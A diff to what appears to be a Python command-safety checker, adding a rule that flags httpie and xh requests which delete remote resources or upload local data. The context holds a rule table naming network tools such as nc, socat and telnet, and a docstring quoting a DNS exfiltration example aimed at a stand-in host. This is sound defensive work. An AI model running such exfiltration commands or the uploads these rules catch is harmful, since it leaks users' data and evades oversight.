@@ -333,6 +333,40 @@ def _sender(run: _Run) -> None:
     run.flag("mutating", f"{run.name} sends local data to another host", "upload")
 
 
+_HTTPIE_METHOD = _LazyRe(r"^(GET|HEAD|OPTIONS|POST|PUT|PATCH|DELETE|[A-Z]+)$")
+#: the separator of an httpie request item: ``==`` query, ``:`` header, the others a body field or file
+_HTTPIE_ITEM = _LazyRe(r"^(?:[^=:@\\]|\\.)*?(==|:=@|=@|:=|=|@|:)")
+
+
+def _httpie(run: _Run) -> None:
+    """httpie (``http``/``https``) and xh: ``[METHOD] URL [ITEM...]``. DELETE is destructive; a body item
+    (``k=v``, ``k:=json``, ``f@file``, ``k=@file``), a raw body from stdin or a file, or another method than
+    GET/HEAD/OPTIONS sends local data (an upload, like curl -d); ``k==v`` query items and headers built from the
+    command's output too."""
+    opts, pos = _split_opt_words(run.args, ("-a", "--auth", "-A", "--auth-type", "--raw", "-o", "--output",
+                                           "--session", "--session-read-only", "--verify", "--cert", "--cert-key",
+                                           "--proxy", "--timeout", "--max-redirects", "--pretty", "-s", "--style",
+                                           "-p", "--print", "--format-options", "--response-charset"))
+    if not pos:
+        return
+    method = pos[0].text.upper() if len(pos) > 1 and _HTTPIE_METHOD.match(pos[0].text) else ""
+    items = pos[2:] if method else pos[1:]
+    for o in ("-o", "--output", "--session"):
+        for v in opts.get(o, []):
+            run.write(v, f"{run.name} {o}")
+    if ("-d" in opts or "--download" in opts) and not (opts.get("-o") or opts.get("--output")):
+        run.acc.unresolved = True
+        run.write(W("."), f"{run.name} --download")  # a file named after the URL or the response
+    if method == "DELETE":
+        run.flag("destructive", f"{run.name} DELETE deletes a remote resource")
+        return
+    seps = [m.group(1) if m else "" for m in (_HTTPIE_ITEM.match(w.text) for w in items)]
+    body = [s for s in seps if s not in ("", "==", ":")]
+    if body or "--raw" in opts or method not in ("", "GET", "HEAD", "OPTIONS") or \
+            any(_computed(run, w) for w in items + pos[:2]) or run.ctx.piped:
+        run.flag("mutating", f"{run.name} sends local data to a remote server", "upload")
+
+
 def _resolver(run: _Run) -> None:
     """dig/nslookup/host/getent/ping/traceroute/whois: a name the command computed goes out in a DNS query (UDP,
     which no kernel rule here filters) -- ``nslookup $(base64 -w0 f).evil.example`` is an upload."""
@@ -346,4 +380,5 @@ RULES: dict[str, Callable[[_Run], None]] = {
     "nc": _sender, "ncat": _sender, "netcat": _sender, "socat": _sender, "telnet": _sender, "sftp": _sender,
     "ftp": _sender, "lftp": _sender,
     **dict.fromkeys(_RESOLVERS, _resolver),
+    **dict.fromkeys(("http", "https", "xh", "xhs"), _httpie),
 }
